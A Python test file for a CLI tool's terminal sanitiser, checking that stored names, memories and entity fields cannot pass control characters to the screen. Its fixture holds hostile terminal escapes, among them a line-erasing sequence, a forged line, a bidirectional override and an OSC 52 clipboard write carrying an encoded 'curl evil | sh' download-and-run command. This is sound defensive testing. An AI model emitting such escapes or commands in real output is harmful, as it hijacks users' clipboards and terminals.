"""Terminal escapes in stored text never reach the terminal: ``noon log``, ``history`` and
``query`` show every control character of a client name, a memory's text and an entity's
fields as a visible escape (an agent's change erased from screen, an OSC 52 clipboard write,
a forged line, a bidirectional override), and the honest text around them stays readable."""

from __future__ import annotations

import re
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from noon.cli import main
from noon.commands.terminal import visible, visible_lines
from noon.config import Settings
from noon.graph import plan
from noon.graph.reader import GraphReader
from noon.graph.uri import parse
from noon.kg import plan as kg_plan
from noon.store.access import kg_mutate, service
from noon.store.store import Store

CLEAR_LINE = "\x1b[2K\r"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
EVIL = f"agent{CLEAR_LINE}{CLIPBOARD}\nFORGED LINE\u202e\x9b31m"
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""What must not reach the terminal (the newline ends each output line)."""


def write_hostile(d: Path) -> None:
    store = Store(Settings.from_env({}, dir=d, node_id="laptop", fsync=False))
    try:

        def fn(g: GraphReader) -> tuple[list[Any], None]:
            drafts, _, _ = plan.create(
                g, "default", parse("core://"), "tea", f"likes tea {EVIL}", 1, "d"
            )
            return drafts, None

        service(store).write(fn, EVIL)
        entity = {"name": f"Eve{EVIL}", "entityType": f"t{EVIL}", "observations": [f"tea {EVIL}"]}
        kg_mutate(store, "default", kg_plan.create_entities, [entity], EVIL)
    finally:
        store.close()


@pytest.mark.parametrize(
    "command",
    [["log"], ["history", "core://tea"], ["query", "tea"]],
    ids=["log", "history", "query"],
)
def test_no_control_character_reaches_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    d = tmp_path / "noon"
    write_hostile(d)
    capsys.readouterr()
    started = time.monotonic()
    assert main([*command, "--dir", str(d), "--node-id", "laptop"]) == 0
    assert time.monotonic() - started < 30
    out = capsys.readouterr().out
    assert not RAW.findall(out), RAW.findall(out)
    assert "FORGED LINE" not in [line.strip() for line in out.splitlines()]
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in out and "\\u202e" in out
    assert "\\x1b[2K" in out and "\\x9b31m" in out
    assert "tea" in out


@given(st.text())
def test_visible_leaves_no_control_character_and_keeps_the_rest(text: str) -> None:
    shown = visible(text)
    assert not RAW.search(shown) and "\n" not in shown
    assert re.sub(r"\\x[0-9a-f]{2}|\\u[0-9a-f]{4}", "", shown) == re.sub(
        "[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]|"
        r"\\x[0-9a-f]{2}|\\u[0-9a-f]{4}",
        "",
        text,
    )


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_a_report_keeps_its_lines_and_sends_no_control(lines: list[str]) -> None:
    """What ``noon status``, ``doctor`` and ``peers`` print (their lines may hold a peer's
    error or address): each line shown visible, the report's own line breaks kept."""
    joined = "\n".join(line.replace("\n", " ") for line in lines)
    shown = visible_lines(joined)
    assert shown.count("\n") == joined.count("\n")
    assert not RAW.search(shown)
